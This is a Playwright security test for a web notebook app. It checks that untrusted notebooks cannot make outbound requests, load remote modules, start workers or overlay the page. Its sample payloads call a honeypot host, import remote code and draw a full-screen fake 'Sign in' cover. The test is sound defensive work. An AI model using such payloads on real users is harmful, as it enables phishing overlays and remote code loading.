import { deflateSync } from 'node:zlib';
import type { Page } from '@playwright/test';
import { cells, named, openText } from '../e2e/watched';
import { expect, test } from './attack';

const markup = (host: string) => {
  const bare = host.replace('http:', '');
  return `<img src=${bare}/img> <div style="position:fixed;inset:0;z-index:2147483647;background:red url(${bare}/cover)">Sign in</div>`;
};
const code = (host: string) => `fetch('${host}/fetch').catch(() => {});
globalThis.kept = new Worker(URL.createObjectURL(new Blob(["fetch('${host}/worker')"], {type: 'text/javascript'})));`;

const loads = (host: string) => `import('${host}/module.js').catch(() => {});`;

const notebook = (host: string) => `---
title: From a stranger
format: 1
---
${markup(host)}

\`\`\`js id=reaches
${code(host)}
\`\`\`

\`\`\`js id=loads
${loads(host)}
\`\`\`

\`\`\`ts id=starts
const worker: Worker = new Worker('${host}/script.js');
\`\`\`

\`\`\`js id=covers
html(['${markup(host)}'])
\`\`\`

\`\`\`sql id=safe
select 40 + 2 as n
\`\`\`
`;

/** Buttons and links of our own bars, and those of them that something else lies over, wherever the page is scrolled to. */
const bars = (page: Page) =>
  page.evaluate(async () => {
    const seen = new Set<Element>();
    const covered: string[] = [];
    for (let at = 0; ; at += 400) {
      scrollTo(0, at);
      await new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)));
      for (const element of document.querySelectorAll('body header:not(.head) button, footer button, footer a')) {
        const { left, top, width, height } = element.getBoundingClientRect();
        const [x, y] = [left + width / 2, top + height / 2];
        if (width === 0 || x < 0 || y < 0 || x >= innerWidth || y >= innerHeight) continue;
        seen.add(element);
        const over = document.elementFromPoint(x, y);
        if (!over || !(element.contains(over) || over.contains(element)) || over.closest('.output'))
          covered.push(`${element.outerHTML.slice(0, 80)} under ${over?.outerHTML.slice(0, 80)}`);
      }
      if (at + innerHeight >= document.documentElement.scrollHeight) return { seen: seen.size, covered };
    }
  });

/** The own host has answered since: whatever was asked for before has been decided. */
const answered = (page: Page) => page.evaluate(() => fetch('build.json').then((answer) => answer.text()));

/** Five at least: the menu, the panels, the theme, how to run. */
const expectUncovered = async (page: Page) => {
  const { seen, covered } = await bars(page);
  expect(covered).toEqual([]);
  expect(seen).toBeGreaterThan(5);
};

test('walk 7: in a notebook from outside nothing runs, nothing leaves, nothing covers the page', async ({
  page,
  honeypot,
  watch
}) => {
  // Where no wall stands all of it is heard, and the cover covers: else silence would say nothing.
  await page.goto(`${honeypot.url}/free`);
  await page.evaluate(
    ([html, script]) => {
      document.body.innerHTML = `<button>Ours</button>${html}`;
      const element = document.createElement('script');
      element.textContent = script ?? '';
      document.body.append(element);
    },
    [markup(honeypot.url), `${code(honeypot.url)}\n${loads(honeypot.url)}`]
  );
  await expect.poll(() => [...honeypot.paths].sort()).toEqual(['/cover', '/fetch', '/img', '/module.js', '/worker']);
  expect(await page.evaluate(() => document.elementFromPoint(20, 20)?.localName)).toBe('div');
  honeypot.caught = [];
  watch.foreign.length = 0;
  watch.problems.length = 0;

  const text = notebook(honeypot.url);
  const ways: [name: string, open: () => Promise<unknown>][] = [
    ['a file', () => openText(page, text)],
    ['a link', () => page.goto(`/notebook#n=${deflateSync(text).toString('base64url')}`)]
  ];
  for (const [name, open] of ways)
    await test.step(name, async () => {
      await open();
      await expect(cells(page)).toHaveCount(6);
      await expect(named(page, 'safe').getByRole('gridcell').first()).toContainText('42');
      for (const id of ['reaches', 'starts', 'covers'])
        await expect(named(page, id)).toHaveAttribute('data-status', 'blocked');
      // Refused as it stands: no cell imports from an address.
      await expect(named(page, 'loads')).toHaveAttribute('data-status', 'failed');
      expect(await page.locator('iframe').count(), 'no place for foreign code').toBe(0);
      await expectUncovered(page);
      await answered(page);
      // Not even asked for.
      expect(watch.foreign).toEqual([]);
      expect(watch.problems).toEqual([]);
      expect(honeypot.caught).toEqual([]);
    });

  await test.step('allowed', async () => {
    watch.expectsRefusals = true;
    await page.getByRole('button', { name: /^Read the code/ }).click();
    await page
      .getByRole('dialog')
      .getByRole('button', { name: /^Allow/ })
      .click();
    await expect(named(page, 'covers')).toHaveAttribute('data-status', 'fresh');
    for (const id of ['loads', 'starts']) await expect(named(page, id)).toHaveAttribute('data-status', 'failed');
    await expect(named(page, 'reaches')).toHaveAttribute('data-status', /fresh|failed/);
    await expectUncovered(page);
    await answered(page);
    expect(honeypot.caught).toEqual([]);
  });
});
